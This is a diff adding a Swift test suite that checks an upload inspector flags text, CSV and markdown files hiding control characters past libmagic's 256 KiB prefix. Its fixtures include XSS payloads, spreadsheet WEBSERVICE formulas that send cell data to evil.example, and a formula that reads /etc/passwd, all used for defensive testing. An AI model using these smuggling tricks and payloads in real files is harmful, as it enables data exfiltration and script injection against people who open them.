@@ -1,0 +1,64 @@
+import AirlockCore
+import Foundation
+import Testing
+
+@testable import Inspection
+
+/// Attack round 8 on inspection: control characters that consumers delete, past the 256 KiB libmagic types.
+struct Round8Tests {
+    let profile = UploadProfile(
+        name: "documents",
+        maxSize: 16 << 20,
+        allow: [
+            .init(extensions: ["txt"], types: ["text/plain"]), .init(extensions: ["csv"], types: ["text/csv", "text/plain"]),
+            .init(extensions: ["md"], types: ["text/markdown", "text/plain"]), .init(extensions: ["svg"], types: ["image/svg+xml"]),
+        ]
+    )
+
+    func inspect(_ bytes: [UInt8], name: String) async throws -> Verdict {
+        let inspector = Inspector(
+            magic: try MagicDetector(),
+            scanner: try ClamAVEngine(database: InspectorTests.database, limits: ScanLimits()),
+            threads: 1
+        )
+        let path = FileManager.default.temporaryDirectory.appendingPathComponent("airlock-round8-\(UUID().uuidString)").path
+        try Data(bytes).write(to: URL(fileURLWithPath: path))
+        defer { try? FileManager.default.removeItem(atPath: path) }
+        return await inspector.inspect(InspectionRequest(path: path, filename: name, profile: profile))
+    }
+
+    /// Ordinary text, then (past libmagic's 256 KiB) the line with the control character.
+    static func padded(_ tail: String, rows: Bool = false) -> [UInt8] {
+        let line = rows ? "item,4,12.50\n" : "An ordinary paragraph of notes about the quarterly plan, nothing more.\n"
+        return Array((String(repeating: line, count: (300 << 10) / line.utf8.count) + tail).utf8)
+    }
+
+    /// Python-Markdown deletes STX and ETX before anything else: `` `\u{02}` `` closes the fence, `<scr\u{03}ipt>` is a
+    /// script. LibreOffice's CSV import drops NUL: `=WEBSERVICE\u{00}(` is a call, `\u{00}=` a formula cell.
+    @Test(arguments: [
+        ("notes.md", "```js\nconst a = 1;\n``\u{02}`\n<img src=\"x\" onerror=\"alert(1)\">\n```\n", false),
+        ("notes.md", "<scr\u{03}ipt>alert(1)</scr\u{03}ipt>\n", false),
+        ("notes.txt", "<ifr\u{02}ame src=https://evil.example/>\n", false),
+        ("data.csv", "secret,=WEBSERVICE\u{00}(\"https://evil.example/?\"&A1)\n", true),
+        ("data.csv", "secret,\u{00}=WEBSERVICE(\"https://evil.example/?\"&A1)\n", true),
+        ("data.csv", "x,='file:///etc/passwd'\u{00}#$passwd.A1\n", true),
+        ("notes.txt", "bell\u{07} backspace\u{08} vertical tab\u{0B} separator\u{1F} delete\u{7F}\n", false),
+    ])
+    func aControlCharacterPastTheTypedPrefixIsATypeMismatch(_ name: String, _ tail: String, _ rows: Bool) async throws {
+        let verdict = try await inspect(Self.padded(tail, rows: rows), name: name)
+        #expect(verdict.outcome != .clean, "\(name): \(verdict)")
+        #expect(verdict.reasons.contains { $0.code == .typeMismatch && $0.detail.contains("control character") }, "\(verdict.reasons)")
+    }
+
+    /// Tabs, form feeds, CRLF and terminal colours are text.
+    @Test func textWithTabsFormFeedsAndColoursStaysClean() async throws {
+        let verdict = try await inspect(Self.padded("a\tb\r\n\u{0C}\n\u{1B}[31merror\u{1B}[0m: build failed\n"), name: "build.txt")
+        #expect(verdict.outcome == .clean, "\(verdict)")
+    }
+
+    @Test func markupWithAControlCharacterIsATypeMismatch() async throws {
+        let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>a\u{02}b</text></svg>\n"
+        #expect(Inspector.markupFindings(in: Array(svg.utf8)).isEmpty)
+        #expect(Inspector.notTextThroughout(Array(svg.utf8))?.code == .typeMismatch)
+    }
+}
